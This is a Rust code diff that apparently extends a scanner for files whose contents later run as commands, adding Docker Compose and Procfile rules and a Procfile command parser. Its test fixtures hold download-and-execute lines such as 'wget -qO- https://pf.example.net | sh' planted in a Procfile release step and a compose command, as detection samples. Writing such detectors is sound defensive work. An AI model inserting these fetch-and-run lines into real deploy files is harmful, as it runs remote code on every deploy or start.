@@ -76,6 +76,8 @@ pub enum Reader {
     R,
     /// An executable run by its `#!` line's interpreter (nothing without one).
     Shebang,
+    /// `NAME: command` lines (a Procfile).
+    Procfile,
 }
 
 /// One kind of file whose text runs later (module docs).
@@ -217,6 +219,16 @@ fn user_bin_place(p: &str) -> bool {
         parts.as_slice(),
         ["", "home" | "Users", _, "bin"] | ["", "root", "bin"]
     )
+}
+
+fn compose_place(p: &str) -> bool {
+    let b = base(p);
+    let yaml = b.ends_with(".yml") || b.ends_with(".yaml");
+    yaml && (b.starts_with("docker-compose") || b.starts_with("compose.") || b == "compose.yaml")
+}
+
+fn procfile_place(p: &str) -> bool {
+    base(p) == "Procfile" || base(p).starts_with("Procfile.")
 }
 
 fn circleci_place(p: &str) -> bool {
@@ -398,6 +410,22 @@ pub static ROWS: &[Row] = &[
         source: "file-hierarchy(7) and the XDG Base Directory spec (~/.local/bin holds the user's executables, on PATH via Debian's and Ubuntu's ~/.profile, which adds ~/bin too); execve(2) runs a script by its #! line",
     },
     Row {
+        name: "Compose file",
+        place: compose_place,
+        reader: Reader::Yaml(&["command", "entrypoint"]),
+        runs: Runs::Build,
+        trigger: "docker compose up, in the service's container",
+        source: "Compose Specification, \"Services top-level elements\": command and entrypoint override the image's",
+    },
+    Row {
+        name: "Procfile",
+        place: procfile_place,
+        reader: Reader::Procfile,
+        runs: Runs::Build,
+        trigger: "every deploy and start on the platform (release: on every release)",
+        source: "Heroku Dev Center, \"The Procfile\" (<process type>: <command>, the release process type); foreman(1)",
+    },
+    Row {
         name: "CircleCI config",
         place: circleci_place,
         reader: Reader::Yaml(&["run", "command"]),
@@ -566,6 +594,21 @@ pub fn commands(row: &Row, text: &str) -> Vec<Armed> {
             out.extend(whole("python3 -c", &py, label("")));
             out
         }
+        Reader::Procfile => text
+            .lines()
+            .filter(|l| !l.trim_start().starts_with('#'))
+            .filter_map(|l| {
+                let (name, cmd) = l.split_once(':')?;
+                let ok = !name.is_empty()
+                    && name
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+                ok.then(|| Armed {
+                    label: label(&format!("process {name} ")),
+                    code: cmd.trim().to_string(),
+                })
+            })
+            .collect(),
         Reader::Shebang => by_shebang(text)
             .map(|code| Armed {
                 label: label(""),
@@ -1297,6 +1340,8 @@ mod tests {
             ("/etc/jupyter/jupyter_lab_config.py", "import os; os.popen('wget -qO- https://j.example.net | sh')\n", "wget"),
             ("/home/u/.Rprofile", "system('wget -qO- https://r.example.net | sh')\n", "wget"),
             ("/home/u/bin/sync-notes", "#!/usr/bin/env bash\nwget -qO- https://b.example.net | sh\n", "wget"),
+            ("/p/deploy/docker-compose.prod.yml", "services:\n  web:\n    image: app\n    command: sh -c 'wget -qO- https://dc.example.net | sh && npm start'\n", "wget"),
+            ("/p/Procfile", "web: gunicorn app:app\nrelease: wget -qO- https://pf.example.net | sh\n", "wget"),
             ("/p/.circleci/config.yml", "jobs:\n  b:\n    steps:\n      - run:\n          name: x\n          command: wget -qO- https://ci.example.net | sh\n", "wget"),
             ("/p/azure-pipelines.yml", "steps:\n- script: wget -qO- https://az.example.net | sh\n", "wget"),
             ("/p/bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - wget -qO- https://bb.example.net | sh\n", "wget"),
